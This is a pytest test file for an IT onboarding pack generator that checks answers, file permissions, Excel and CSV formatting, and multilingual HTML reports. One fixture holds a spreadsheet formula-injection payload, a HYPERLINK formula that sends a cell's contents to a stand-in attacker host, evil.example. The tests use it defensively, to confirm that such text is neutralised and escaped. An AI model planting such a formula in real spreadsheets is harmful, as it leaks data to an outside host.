"""The onboarding pack's parts on a pack made by hand (runner/onboarding/pack.py, xlsx.py, pack.html.j2):
the four questions' yes/no/unknown rule, the files written (0600, in a new directory), the workbooks (header
bold and frozen, autofilter, widths, real dates, numbers as numbers, text never a formula), the CSV (formula
injection, the pack's language), and the HTML and PDF in every language. The pack of a real run is
tests/test_onboarding_e2e.py."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import stat
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from markupsafe import escape
from openpyxl import load_workbook

from runner.onboarding import pack as pack_mod
from runner.onboarding import xlsx
from runner.report.render import render
from runner.state import Seen, StateRow

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def sample() -> dict[str, Any]:
    return {
        "schema": pack_mod.SCHEMA,
        "lang": "en",
        "built_at": "2026-11-30T10:00:00+00:00",
        "as_of": "2026-11-30T09:00:00+00:00",
        "client": {
            "name": "acme",
            "display_name": "ACME Ltd",
            "timezone": "Europe/Madrid",
            "sla_tier": "standard",
        },
        "msp": None,
        "run": {
            "id": "20261130T085500Z-abcdef",
            "started": "2026-11-30T08:55:00+00:00",
            "finished": "2026-11-30T08:58:00+00:00",
            "status": "successful",
            "mode": "audit",
            "roles": ["linux_health"],
            "reason": "onboarding audit",
            "requested_by": "tech",
        },
        "ledger": {
            "checkpoint": None,
            "rows_in_report": 40,
            "rows_after": 0,
            "fingerprint": None,
            "public_key": None,
            "key_name": None,
            "verify": "maint ledger verify acme --checkpoint FILE --public-key KEY",
        },
        "assets": [
            {
                "host": "web01",
                "hostname": "web01",
                "fqdn": "web01.acme.example",
                "platform": "linux",
                "asset_type": "server",
                "os": "Debian GNU/Linux",
                "os_version": "12",
                "firmware": None,
                "vendor": "QEMU",
                "model": "Standard PC",
                "serial": "-SER1",
                "cpu": "AMD EPYC (4)",
                "ram_gib": 7.8,
                "ips": ["10.0.0.5"],
                "macs": ["52:54:00:12:34:56"],
                "disks": [{"name": "vda", "size_gib": 40.0, "model": None}],
                "software_count": 412,
                "owner": EVIL,
                "site": "@HQ",
                "criticality": "critical",
                "roles": ["linux_health"],
                "health": "fail",
                "health_counts": {"fail": 1, "pass": 5},
                "in_inventory": True,
                "last_boot": "2026-11-01T06:00:00+00:00",
                "collected_at": "2026-11-30T08:56:00+00:00",
                "seq": 12,
                "run_id": "20261130T085500Z-abcdef",
                "facts": {"hostname": "web01"},
            }
        ],
        "software": [
            {
                "host": "web01",
                "count": 2,
                "listed": 2,
                "items": [
                    {"name": "+cmd", "version": "1.0", "publisher": None},
                    {"name": "openssh-server", "version": "1:9.2p1-2", "publisher": "Debian"},
                ],
                "seq": 12,
            }
        ],
        "risks": [
            {
                "id": "RISK-HEALTH-LNX-05",
                "control": "HEALTH-LNX-05",
                "title": "Clock synchronised",
                "description": "A clock that drifts breaks logs and certificates.",
                "domain": "health",
                "severity": "medium",
                "status": "fail",
                "assets": ["web01"],
                "criticality": "critical",
                "likelihood": 4,
                "impact": 4,
                "score": 16,
                "rank": 1,
                "first_seen": "2026-11-30T08:57:00+00:00",
                "evidence": [{"host": "web01", "status": "fail", "seq": 20, "run_id": "r", "reason": "x"}],
                "treatment": "Enable NTP.",
                "treatment_class": "fix_now",
            }
        ],
        "checks": [
            {
                "host": "web01",
                "platform": None,
                "backup_running": {"answer": "unknown", "controls": [], "seqs": [], "statuses": {}},
                "last_success": {"answer": "unknown", "at": None, "job": None, "seqs": []},
                "locations": {"answer": "unknown", "items": [], "seqs": []},
                "security": {
                    "answer": "unknown",
                    "antivirus": {"answer": "unknown", "controls": [], "seqs": [], "statuses": {}},
                    "firewall": None,
                },
            }
        ],
        "roadmap": {
            "items": [
                {
                    "item": "HEALTH-LNX-05",
                    "control": "HEALTH-LNX-05",
                    "title": "Clock synchronised",
                    "treatment_class": "fix_now",
                    "severity": "medium",
                    "hosts": ["web01"],
                    "owner": "tech@example.com",
                    "due": "2026-12-07",
                    "status": "open",
                    "created_at": "2026-11-30T10:00:00+00:00",
                    "updated_at": "2026-11-30T10:00:00+00:00",
                    "closed_at": None,
                    "closed_by_run": None,
                    "overdue": False,
                    "history": [],
                }
            ],
            "milestones": [
                {
                    "treatment_class": "fix_now",
                    "due": "2026-12-07",
                    "items": ["HEALTH-LNX-05"],
                    "total": 1,
                    "done": 0,
                    "open": 1,
                    "overdue": 0,
                }
            ],
        },
        "summary": {
            "hosts": 1,
            "hosts_in_inventory": 1,
            "hosts_with_facts": 1,
            "software_total": 2,
            "health": {"fail": 1},
            "risks": 1,
            "risks_by_severity": {"medium": 1},
            "risks_by_treatment": {"fix_now": 1},
            "backup_running": {"unknown": 1},
            "security": {"unknown": 1},
            "roadmap_items": 1,
            "roadmap_by_status": {"open": 1},
            "roadmap_overdue": 0,
        },
    }


# ------------------------------------------------------------------------------- the four questions


def _row(control: str, status: str | None, seq: int = 1) -> StateRow:
    latest = None if status is None else Seen({"status": status, "seq": seq, "severity": "high"})
    return StateRow("web01", control, None, latest)


def test_answers_never_yes_without_a_passing_row() -> None:
    assert pack_mod.answer_of([])["answer"] == "unknown"
    assert pack_mod.answer_of([_row("BKP-RESTIC-01", None)])["answer"] == "unknown"
    assert pack_mod.answer_of([_row("BKP-RESTIC-01", "not_checked", 3)])["answer"] == "unknown"
    assert pack_mod.answer_of([_row("BKP-RESTIC-01", "error", 3)])["answer"] == "unknown"
    yes = pack_mod.answer_of([_row("BKP-RESTIC-01", "pass", 4), _row("BKP-RESTIC-02", "not_checked", 5)])
    assert yes["answer"] == "yes"
    assert yes["seqs"] == [4]
    no = pack_mod.answer_of([_row("BKP-RESTIC-01", "pass", 4), _row("BKP-RESTIC-02", "warn", 6)])
    assert (no["answer"], no["seqs"], no["controls"]) == ("no", [6], ["BKP-RESTIC-02"])


def test_a_waived_row_is_not_a_yes() -> None:
    from runner.inventory.schema import Waiver

    waiver = Waiver.model_validate(
        {"control": "AV-LNX-01", "hosts": "*", "owner": "a@b.example", "reason": "r", "expires": "2099-01-01"}
    )
    row = StateRow(
        "web01", "AV-LNX-01", None, Seen({"status": "fail", "seq": 9, "severity": "high"}), None, waiver
    )
    assert row.effective == "waived"
    assert pack_mod.answer_of([row])["answer"] == "unknown"


# ------------------------------------------------------------------------------------- the files


def test_write_pack_writes_every_file_0600_in_a_new_directory(tmp_path: Path) -> None:
    out = tmp_path / "a" / "b"
    written = pack_mod.write_pack(sample(), out)
    assert [p.name for p in written] == list(pack_mod.FILES)
    for path in written:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        assert path.stat().st_size > 0
    assert json.loads((out / "pack.json").read_text()) == sample()
    assert (out / "pack.pdf").read_bytes().startswith(b"%PDF-")
    assert not list(out.glob(".*.tmp"))


def test_write_pack_refuses_another_schema(tmp_path: Path) -> None:
    data = sample()
    data["schema"] = "maint.report/1"
    with pytest.raises(pack_mod.PackError, match=r"schema: expected maint\.onboarding/1"):
        pack_mod.write_pack(data, tmp_path)


def _sheet(data: bytes, title: str) -> Any:
    wb = load_workbook(io.BytesIO(data))
    assert title in wb.sheetnames, wb.sheetnames
    return wb[title]


def _check_table(ws: Any, headers: list[str]) -> None:
    assert [c.value for c in ws[1]] == headers
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(headers)).column_letter}{ws.max_row}"
    assert all(
        ws.column_dimensions[ws.cell(1, i).column_letter].width >= 8 for i in range(1, len(headers) + 1)
    )


def test_assets_workbook(tmp_path: Path) -> None:
    data = xlsx.assets(sample())
    ws = _sheet(data, "Assets")
    words = xlsx.labels(sample())
    _check_table(ws, [words.ASSET[k] for k in pack_mod.ASSET_COLUMNS])
    row = {ws.cell(1, i).value: ws.cell(2, i).value for i in range(1, ws.max_column + 1)}
    assert row["Host"] == "web01"
    assert row["Criticality"] == "Critical"
    assert row["RAM (GiB)"] == 7.8
    assert row["Installed software"] == 412
    assert row["Facts collected"] == datetime(2026, 11, 30, 9, 56)  # Europe/Madrid, a real date-time
    # text beginning like a formula is stored as text with an apostrophe: never run
    assert row["Owner"] == "'" + EVIL
    assert row["Site"] == "'@HQ"
    assert row["Serial number"] == "'-SER1"
    for cells in ws.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in cells)
    soft = _sheet(data, "Software")
    _check_table(soft, ["Host", "Software", "Version", "Publisher", "Ledger row"])
    assert [c.value for c in soft[2]] == ["web01", "'+cmd", "1.0", None, 12]


def test_risks_and_roadmap_workbooks() -> None:
    ws = _sheet(xlsx.risks(sample()), "Risks")
    words = xlsx.labels(sample())
    _check_table(ws, list(words.RISK.values()))
    row = {ws.cell(1, i).value: ws.cell(2, i).value for i in range(1, ws.max_column + 1)}
    assert (row["Rank"], row["Risk"], row["Score"]) == (1, "RISK-HEALTH-LNX-05", 16)
    assert row["Treatment class"] == "Fix now"
    assert row["Evidence (ledger rows)"] == "web01: fail (#20)"
    assert isinstance(row["First seen"], datetime)
    road = _sheet(xlsx.roadmap(sample()), "Roadmap")
    _check_table(road, list(words.ROADMAP.values()))
    item = {road.cell(1, i).value: road.cell(2, i).value for i in range(1, road.max_column + 1)}
    assert item["Due"] == datetime(2026, 12, 7)  # a date cell (openpyxl reads dates back as datetimes)
    assert road.cell(2, 8).number_format == xlsx.DATE_FORMAT
    assert item["Status"] == "Open"
    assert item["Overdue"] == "No"
    miles = _sheet(xlsx.roadmap(sample()), "Milestones")
    _check_table(miles, ["Milestone", "Due", "Items", "Total", "Done", "Open", "Overdue"])
    assert [c.value for c in miles[2]] == ["Fix now", datetime(2026, 12, 7), "HEALTH-LNX-05", 1, 0, 1, 0]


def test_workbooks_in_spanish_have_translated_headers() -> None:
    data = sample()
    data["lang"] = "es"
    ws = _sheet(xlsx.assets(data), "Activos")
    assert ws.cell(1, 1).value == "Equipo"


def test_assets_csv_is_formula_safe_and_translated() -> None:
    text = pack_mod.assets_csv(sample()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "Host"
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Owner"] == "'" + EVIL
    assert row["Site"] == "'@HQ"
    assert row["Network addresses"] == "10.0.0.5"
    assert row["Disks"] == "vda 40.0 GiB"
    assert row["Approved (in the inventory)"] == "yes"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    data = sample()
    data["lang"] = "ca"
    assert pack_mod.assets_csv(data).decode("utf-8-sig").startswith("Equip,")


# ---------------------------------------------------------------------------------------- the page


@pytest.mark.parametrize(
    ("lang", "headings"),
    [
        (
            "en",
            [
                "Asset register",
                "Software inventory",
                "Risk register",
                "Backup and security checks",
                "Roadmap",
            ],
        ),
        ("es", ["Registro de activos", "Inventario de software", "Registro de riesgos"]),
        ("ca", ["Registre d'actius", "Inventari de programari", "Registre de riscos"]),
    ],
)
def test_pack_html_in_each_language(lang: str, headings: list[str]) -> None:
    data = sample()
    data["lang"] = lang
    html = render(data, "html", template="pack").decode()
    found = [re.sub(r"<[^>]+>", "", h) for h in re.findall(r"<h2>(.*?)</h2>", html)]
    import html as html_mod

    found = [html_mod.unescape(h) for h in found]
    for heading in headings:
        assert heading in found, (heading, found)
    assert "RISK-HEALTH-LNX-05" in html
    assert "http://" not in html.replace("http://evil.example", "")  # nothing fetched: no URL but the data's
    assert "<script" not in html
    assert str(escape(EVIL)) in html  # autoescaped


def test_pack_html_is_the_same_bytes_for_the_same_data() -> None:
    assert render(sample(), "html", template="pack") == render(
        copy.deepcopy(sample()), "html", template="pack"
    )


def test_pack_html_without_anything_found() -> None:
    data = sample()
    data["assets"], data["software"], data["risks"], data["checks"] = [], [], [], []
    data["roadmap"] = {"items": [], "milestones": []}
    html = render(data, "html", template="pack").decode()
    assert "No risk: every control that applies passed or is waived." in html
    assert "No roadmap item." in html


def test_dates_in_the_workbooks_are_real_dates() -> None:
    assert xlsx.day("2026-12-07") == date(2026, 12, 7)
    assert xlsx.day("soon") is None
    assert xlsx.when("2026-11-30T08:56:00+00:00", xlsx.ZoneInfo("Europe/Madrid")) == datetime(
        2026, 11, 30, 9, 56
    )
    assert xlsx.when(None, xlsx.ZoneInfo("UTC")) is None
